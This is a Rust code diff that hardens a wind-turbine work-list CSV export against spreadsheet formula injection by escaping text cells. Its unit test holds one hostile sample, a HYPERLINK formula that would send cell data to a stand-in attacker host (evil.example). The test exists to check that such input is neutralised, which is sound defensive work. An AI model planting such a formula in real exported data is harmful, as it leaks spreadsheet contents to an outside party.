@@ -3,17 +3,19 @@
 //!
 //! French files use `;` between fields and a decimal comma (what a French spreadsheet expects),
 //! English ones `,` and a decimal point; both start with a UTF-8 byte-order mark so spreadsheets
-//! read the accents right.
+//! read the accents right. Text cells go through the core's [`spreadsheet_cell`] (a site such as
+//! `=HYPERLINK(…)` is written `'=HYPERLINK(…)`, shown as text); numbers are written as numbers.
 
 use cockpit_core::lang::{format_number, Lang};
 use cockpit_core::runs::queries::{FleetItem, FleetItemText};
+use cockpit_core::sanitize::spreadsheet_cell;
 
 /// Days to failure in a work-list cell: a plain number a spreadsheet can sort, or the core's
 /// words at the model's horizon ("> 30 days"); empty without an estimate.
 fn days_cell(item: &FleetItem, text: &FleetItemText, lang: Lang) -> String {
     match item.ttf_days {
         Some(d) if !item.ttf_censored => format_number(d, 1, lang),
-        _ => text.days.clone().unwrap_or_default(),
+        _ => spreadsheet_cell(text.days.as_deref().unwrap_or_default()).into_owned(),
     }
 }
 
@@ -60,11 +62,12 @@ pub fn worklist_csv(items: &[FleetItem], lang: Lang) -> Result<String, csv::Erro
             None => text.drivers.join("; "),
         };
         let days = days_cell(i, &text, lang);
+        let cell = |t: &str| spreadsheet_cell(t).into_owned();
         w.write_record([
             (rank + 1).to_string(),
-            i.turbine_id.clone(),
-            i.site.clone(),
-            text.category,
+            cell(&i.turbine_id),
+            cell(&i.site),
+            cell(&text.category),
             i.risk_score
                 .map(|s| format_number(s, 1, lang))
                 .unwrap_or_default(),
@@ -72,9 +75,9 @@ pub fn worklist_csv(items: &[FleetItem], lang: Lang) -> Result<String, csv::Erro
                 .map(|p| format_number(p * 100.0, 1, lang))
                 .unwrap_or_default(),
             days,
-            why,
-            i.last_data.clone().unwrap_or_default(),
-            i.scored_at.clone(),
+            cell(&why),
+            cell(i.last_data.as_deref().unwrap_or_default()),
+            cell(&i.scored_at),
         ])?;
     }
     let bytes = w.into_inner().map_err(|e| e.into_error())?;
@@ -123,6 +126,52 @@ mod tests {
         );
         let nan = driver("converter", 40.0, f64::NAN, "°C");
         assert!(phrase(&nan, Lang::Fr).contains("valeur normale inconnue"));
+    }
+
+    fn item(turbine_id: &str, site: &str) -> FleetItem {
+        FleetItem {
+            turbine_id: turbine_id.into(),
+            site: site.into(),
+            model: "V2".into(),
+            scored: true,
+            not_scored_reason: None,
+            risk_score: Some(81.25),
+            category: Some(Category::Critical),
+            p_fail_7d: Some(0.623),
+            ttf_days: Some(-2.5),
+            ttf_censored: false,
+            drivers: vec![driver("gearbox_oil", 61.2, 51.8, "°C")],
+            scored_at: "2026-11-27T23:50:00Z".into(),
+            last_data: Some("2026-11-27T23:50:00Z".into()),
+            run_id: 3,
+            data_quality: Default::default(),
+        }
+    }
+
+    #[test]
+    fn a_hostile_site_or_id_is_written_as_text_and_numbers_stay_numbers() {
+        let site = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Lyon\")";
+        for lang in [Lang::En, Lang::Fr] {
+            let csv = worklist_csv(&[item("-LYO-01", site)], lang).unwrap();
+            let delimiter = match lang {
+                Lang::En => b',',
+                Lang::Fr => b';',
+            };
+            let mut reader = csv::ReaderBuilder::new()
+                .delimiter(delimiter)
+                .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+            let row = reader.records().next().unwrap().unwrap();
+            assert_eq!(&row[1], "'-LYO-01");
+            assert_eq!(&row[2], format!("'{site}"));
+            for (i, cell) in row.iter().enumerate().filter(|(i, _)| *i != 6) {
+                assert!(
+                    !cell.starts_with(cockpit_core::sanitize::FORMULA_STARTS),
+                    "column {i} would run in a spreadsheet: {cell}"
+                );
+            }
+            // A negative number in a numeric column stays a number.
+            assert_eq!(&row[6], format_number(-2.5, 1, lang));
+        }
     }
 
     #[test]
